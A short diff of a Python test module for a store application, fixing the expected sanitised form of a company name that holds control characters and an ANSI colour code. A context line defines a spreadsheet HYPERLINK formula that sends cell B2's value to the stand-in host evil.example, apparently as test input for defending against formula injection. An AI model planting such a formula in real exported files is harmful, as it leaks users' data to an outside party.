@@ -14,7 +14,7 @@ from store.db import session_scope
 from store.models import JoinApplication, MeetingRequest, Participant
 
 DIRTY = "Acme\x00 Corp\x07\x1b[31m"
-CLEANED = "Acme Corp[31m"
+CLEANED = "Acme Corp"
 FORMULA = '=HYPERLINK("http://evil.example/?c="&B2,"Open catalogue")'
 
 
